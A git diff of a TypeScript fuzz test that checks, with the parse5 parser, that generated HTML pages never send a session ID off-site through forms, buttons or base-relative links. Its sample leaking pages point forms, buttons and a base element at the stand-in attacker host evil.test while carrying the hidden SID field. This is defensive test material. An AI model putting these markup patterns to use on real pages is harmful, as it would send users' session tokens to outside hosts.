@@ -1,12 +1,19 @@
 /**
- * No form of any page sends the SID abroad: every hidden field that was put in, and every button that can send it, as
- * parse5 says who owns whom (HTML §4.10.17.3), in pages of broken nesting.
+ * No page sends the SID abroad: every hidden field that was put in, and every button that can send it, as parse5 says who
+ * owns whom (HTML §4.10.17.3), and every link by the page's base, in pages of broken nesting. Browsers read such pages in
+ * different ways: with scripts or without, by the older or the current rules for `select`.
  *
  * TRANSID_FUZZ_RUNS multiplies the number of cases.
  */
 import { expect } from 'chai';
 import fc from 'fast-check';
-import { type DefaultTreeAdapterMap, Parser, type Token, type DefaultTreeAdapterTypes as Tree } from 'parse5';
+import {
+  type DefaultTreeAdapterMap,
+  Parser,
+  html as parse5Html,
+  type Token,
+  type DefaultTreeAdapterTypes as Tree,
+} from 'parse5';
 import { markPage, SID_NAME, SID_TEXT } from '../support/mark-page.ts';
 import { attribute, elements } from '../support/page-tree.ts';
 
@@ -20,18 +27,59 @@ interface ReadPage {
   readonly pointers: ReadonlyMap<number, Tree.Element | null>;
 }
 
-function read(html: string): ReadPage {
+interface Reading {
+  readonly scripts: boolean;
+  /** The rules for `select`. */
+  readonly select: 'older' | 'current';
+}
+
+const READINGS: readonly Reading[] = [
+  { scripts: false, select: 'older' },
+  { scripts: true, select: 'older' },
+  { scripts: false, select: 'current' },
+  { scripts: true, select: 'current' },
+];
+
+function read(html: string, { scripts, select }: Reading): ReadPage {
   const pointers = new Map<number, Tree.Element | null>();
   class Witness extends Parser<DefaultTreeAdapterMap> {
+    #mode = 0;
+
     override onStartTag(token: Token.TagToken): void {
       pointers.set(token.location?.startOffset ?? -1, this.formElement);
+      this.#mode = this.insertionMode;
+      const isNested = select === 'current' && this.openElements.hasInScope(TAG_ID.SELECT);
+      if (isNested && (token.tagID === TAG_ID.SELECT || token.tagID === TAG_ID.INPUT) && !this.currentNotInHTML) {
+        this.openElements.popUntilTagNamePopped(TAG_ID.SELECT);
+        if (token.tagID === TAG_ID.SELECT) return;
+      }
       super.onStartTag(token);
+      this.#leaveSelectMode();
+    }
+
+    override onEndTag(token: Token.TagToken): void {
+      this.#mode = this.insertionMode;
+      if (select === 'current' && token.tagID === TAG_ID.SELECT && !this.currentNotInHTML) {
+        if (this.openElements.hasInScope(TAG_ID.SELECT)) this.openElements.popUntilTagNamePopped(TAG_ID.SELECT);
+      } else super.onEndTag(token);
+      this.#leaveSelectMode();
+    }
+
+    /** The current rules have no mode for it. */
+    #leaveSelectMode(): void {
+      if (select === 'older' || (this.insertionMode !== IN_SELECT && this.insertionMode !== IN_SELECT + 1)) return;
+      this.insertionMode = Math.max(this.#mode, IN_BODY);
     }
   }
   // The inherited `parse` cannot know the subclass's tree; it is the default adapter's.
-  const document = Witness.parse(html, { sourceCodeLocationInfo: true, scriptingEnabled: false }) as Tree.Document;
+  const document = Witness.parse(html, { sourceCodeLocationInfo: true, scriptingEnabled: scripts }) as Tree.Document;
   return { document, pointers };
 }
+
+/** Insertion modes of parse5, which it does not export; the next one is `select` in a table. */
+const IN_BODY = 6;
+const IN_SELECT = 15;
+const TAG_ID = parse5Html.TAG_ID;
 
 function* ancestors(element: Tree.Element): Generator<Tree.ParentNode> {
   for (let node = element.parentNode; node !== null; node = 'parentNode' in node ? node.parentNode : null) yield node;
@@ -60,18 +108,33 @@ function isOwn(reference: string | null, base: string): boolean {
 }
 
 /** HTML §4.2.3: the first base of HTML in the document proper that has an href. */
-function baseOf(html: readonly Tree.Element[]): string {
+function baseOf(html: readonly Tree.Element[]): { base: string; baseAt: number } {
   const bases = html.filter((one) => one.tagName === 'base' && attribute(one, 'href') !== null);
   const first = bases.find((one) => ![...ancestors(one)].some(({ nodeName }) => nodeName === '#document-fragment'));
-  return new URL(first === undefined ? '' : (attribute(first, 'href') ?? ''), PAGE).href;
+  const href = first === undefined ? '' : (attribute(first, 'href') ?? '');
+  return { base: new URL(href, PAGE).href, baseAt: first === undefined ? 0 : offsetOf(first) };
 }
 
-/** Ways in which the SID of a hidden field leaves the site. */
-function leaks(html: string): string[] {
-  const page = read(html);
+function offsetOf(element: Tree.Element): number {
+  return element.sourceCodeLocation?.startOffset ?? 0;
+}
+
+/** Ways in which the SID leaves the site. */
+function leaks(html: string, readings = READINGS): string[] {
+  return readings.flatMap((reading) =>
+    leaksOf(read(html, reading)).map((leak) => `${leak} ${JSON.stringify(reading)}`),
+  );
+}
+
+function leaksOf(page: ReadPage): string[] {
   const all = [...elements(page.document)].filter((one) => one.namespaceURI === 'http://www.w3.org/1999/xhtml');
-  const base = baseOf(all);
+  const { base, baseAt } = baseOf(all);
   const found: string[] = [];
+  for (const link of all) {
+    // What stands before the base is judged by the document, which HTML asks for.
+    const href = link.tagName === 'a' && offsetOf(link) > baseAt ? attribute(link, 'href') : null;
+    if (href?.includes(SID_TEXT) === true && !isOwn(href, base)) found.push(`link ${href}`);
+  }
   for (const field of all) {
     if (field.tagName !== 'input' || attribute(field, 'value') !== SID_TEXT) continue;
     const form = ownerOf(field, page);
@@ -115,6 +178,7 @@ const PIECES = [
   ...['<input type=hidden name=sid value=old>', '<input name=q>', '<input type=hidden name=sid form=f>'],
   ...[
     '<a>',
+    '<a href=x>',
     '<b>',
     '</b>',
     '<div>',
@@ -139,6 +203,13 @@ const PIECES = [
     '<script>',
     '</script>',
     '<noscript>',
+    '</noscript>',
+    '</NOSCRIPT >',
+    '<style>',
+    '</style>',
+    '<xmp>',
+    '<p title="',
+    '">',
     'x',
     '<!--',
     '-->',
@@ -164,10 +235,13 @@ describe('forms never send the SID abroad', function () {
 
   it('the witness sees a leak', () => {
     const field = `<input type=hidden name=${SID_NAME} value=${SID_TEXT}>`;
-    expect(leaks(`<form>${field}<button formaction=//evil.test>`)).to.have.length(1);
-    expect(leaks(`<form>${field}<a></form><button formaction=//evil.test>`)).to.have.length(1);
-    expect(leaks(`<form id=f>${field}</form><input type=image form=f formaction=//evil.test>`)).to.have.length(1);
-    expect(leaks(`<form action=//evil.test>${field}`)).to.have.length(1);
+    expect(leaks(`<form>${field}<button formaction=//evil.test>`)).to.have.length(4);
+    expect(leaks(`<form>${field}<select></form></select><button formaction=//evil.test>`)).to.have.length(2);
+    expect(leaks(`<select><base href=//evil.test></select><a href=x?${SID_TEXT}>`)).to.have.length(2);
+    expect(leaks(`<form>${field}<noscript></form></noscript><button formaction=//evil.test>`)).to.have.length(2);
+    expect(leaks(`<form>${field}<a></form><button formaction=//evil.test>`)).to.have.length(4);
+    expect(leaks(`<form id=f>${field}</form><input type=image form=f formaction=//evil.test>`)).to.have.length(4);
+    expect(leaks(`<form action=//evil.test>${field}`)).to.have.length(4);
     expect(leaks(`<form>${field}<button formaction=/x></form><button formaction=//evil.test>`)).to.have.length(0);
   });
 });
